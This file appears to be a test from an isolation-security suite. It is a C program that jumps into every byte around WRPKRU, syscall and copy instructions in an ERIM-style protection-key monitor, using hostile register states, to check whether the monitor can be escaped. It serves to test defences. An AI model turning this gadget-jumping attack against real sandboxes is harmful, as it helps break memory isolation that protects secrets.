/* attack
class: gate
aim: memory
policy: true
tries: jumps to every byte around each WRPKRU, call, return and copy of the monitor
expect: { mpk: contained }
source: erim
*/
/* The monitor's assembly, entered at every byte with registers that serve whoever gets through: stacks that lead to this program, all rights in rax, a
   forbidden call, pointers to its own data. What the places are is told by their bytes. */
#include "gates.h"
#define MOST 6000
static uint64_t fake_thread[65536];
static unsigned char *wanted; /* by offset in the code: to be tried */

static void around(const void *bytes, size_t count, int before, int behind) {
    for (uintptr_t at = 0; (at = next_code(at, bytes, count)) != 0;)
        for (int k = -before; k < behind; k++) {
            long offset = (long)(at - code_at) + k;
            if (offset >= 0 && (size_t)offset < code_bytes) wanted[offset] = 1;
        }
}
int main(void) {
    know_the_monitor();
    for (unsigned i = 0; i < 65536; i++) fake_thread[i] = (uint64_t)&came_out;
    uintptr_t stack = hostile_stack();
    uint64_t out = (uint64_t)&came_out;
    struct registers set = {.rax = 0, .rbx = (uint64_t)fake_thread, .rsi = stack, .rdi = (uint64_t)FORBIDDEN, .rbp = stack, .rsp = stack, .r8 = SYS_mkdir, .r9 = out, .r10 = (uint64_t)FORBIDDEN,
                            .r11 = (uint64_t)fake_thread, .r12 = out, .r13 = SYS_mkdir, .r14 = out, .r15 = out, .rflags = 0x202};
    if (!code) {
        set.rip = (uint64_t)careless_wrpkru;
        verdict(try_jump(&set));
    }
    wanted = calloc(code_bytes, 1);
    static const unsigned char wrpkru[] = {0x0f, 0x01, 0xef}, call[] = {0x0f, 0x05}, copy[] = {0xf3, 0xa4}, set_gs[] = {0xf3, 0x48, 0x0f, 0xae}, rdpkru[] = {0x0f, 0x01, 0xee};
    around(wrpkru, sizeof wrpkru, 16, 48);
    around(call, sizeof call, 24, 12);
    around(copy, sizeof copy, 4, 8);
    around(set_gs, sizeof set_gs, 4, 12);
    around(rdpkru, sizeof rdpkru, 4, 16);
    struct stat st;
    int escaped = 0, tried = 0;
    /* A thread area's own stack and state serve as the stack now and then. */
    uintptr_t area = 0;
    for (int i = 0; i < target_count; i++)
        if (targets[i].writable && (targets[i].from & 0x1ffff) == 0 && targets[i].to - targets[i].from == 0x4000) area = targets[i].from;
    for (size_t offset = 0; offset < code_bytes && tried < MOST && !escaped; offset++) {
        if (!wanted[offset]) continue;
        set.rip = code_at + offset;
        set.rsp = tried % 4 == 3 && area ? area + 0xe000 : stack;
        set.rax = tried % 2 ? SYS_mkdir : 0;
        tried++;
        escaped |= try_jump(&set);
        escaped |= stat(FORBIDDEN, &st) == 0;
        if (escaped) printf("at offset %zx of the code\n", offset);
    }
    printf("%d places\n", tried);
    if (tried < 200) not_here("the monitor has fewer places than it must have");
    errno = 0;
    verdict(escaped);
}
